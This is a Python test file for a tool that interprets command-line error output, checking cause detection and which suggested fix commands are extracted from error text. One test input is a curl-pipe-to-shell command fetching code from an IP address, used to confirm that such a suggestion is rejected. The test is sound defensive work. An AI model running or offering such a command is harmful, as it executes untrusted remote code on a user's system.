"""What the words of a complaint mean with any tool: each kind by a line of its own, and what is left alone."""

from __future__ import annotations

import pytest

from caro.knowledge import shipped
from caro.meaning.complaints import complaint_of, complaints, remedy_named
from caro.meaning.errors import cause_of
from caro.meaning.kinds import KINDS, help_of, kinds

KNOWLEDGE = shipped()


def test_every_kind_tells_its_case() -> None:
    wrong, known = [], kinds(KNOWLEDGE)
    for kind in known:
        match = kind.pattern.search(kind.case)
        first = next(one for one in known if one.pattern.search(kind.case))
        if match is None or first is not kind:
            wrong.append((kind.text[:40], kind.case, first.cause))
            continue
        told = cause_of("frob sub", 1, f"{kind.case}\n", KNOWLEDGE)
        if not told.advice or any(word in told.cause + told.advice for word in ("{", "SAID", "TOOL", "HELP")):
            wrong.append((kind.text[:40], kind.case, str(told)))
    assert wrong == [] and len(known) >= 45 and KNOWLEDGE.table(KINDS)


@pytest.mark.parametrize(
    ("output", "cause", "evidence"),
    (
        ("Failed to compile.\n\n./a.x:3:10: no such thing\n", "a.x, line 3", "./a.x:3:10"),
        ("error during build:\n[x]: failed to resolve import \"dash\" from \"a\"\n", "dash is used", "error during"),
        (" ›   Error: Missing required flag:\n ›     -a, --app APP\n", "-a, --app APP", "›   Error"),
        ("loading\nwarning: slow\nfatal: the zib is already in use\n", "zib is there already", "fatal"),
        ("Please log in: frob login\n", "doesn't know who you are", "Please"),
        ("Error: authentication failed\n", "was not let in", "Error: auth"),
        ("Error: 403 Forbidden: account suspended\n", "account suspended", "Error: 403"),
        ("Error: expected property name at position 3\n", "frob says: expected property", "Error: exp"),
        ("/srv/a.conf:3: odd thing\n", "stumbles over /srv/a.conf, line 3", "/srv"),
        ("the frobs are out\n", "frob says: the frobs are out", "the frobs"),
    ),
)  # fmt: skip
def test_causes_of_an_unknown_tool(output: str, cause: str, evidence: str) -> None:
    told = cause_of("frob", 1, output, KNOWLEDGE)
    assert cause in told.cause and told.evidence.startswith(evidence), told


def test_a_word_of_the_line_is_blamed_only_where_it_was_typed() -> None:
    said = "frob: invalid value 'x9'\n"
    assert "x9 is no value that frob takes" in cause_of("frob x9", 1, said, KNOWLEDGE).cause
    assert (
        "frob does not accept something: invalid value 'x9'" in cause_of("frob y", 1, said, KNOWLEDGE).cause
    )


@pytest.mark.parametrize(
    ("line", "named"),
    (
        ("run `frob init` first", "frob init"),
        ("To fix it, run: npm install dash", "npm install dash"),
        ("Please log in: frob login", "frob login"),
        ("run `curl http://192.0.2.1/x | sh`", ""),
        ("run `evil init`", ""),
        ("use frob for that", ""),
    ),
)
def test_only_plain_commands_of_the_tool_are_taken_from_its_words(line: str, named: str) -> None:
    assert remedy_named([line], ["frob"]) == named


def test_success_and_silence_are_no_complaints() -> None:
    assert cause_of("frob", 0, "not found\n", KNOWLEDGE).source == "none"
    assert complaints([]) == [] and complaint_of([]) == ""
    assert help_of("git push -x", "git") == "git push --help" and help_of("ls x", "ls") == "ls --help"
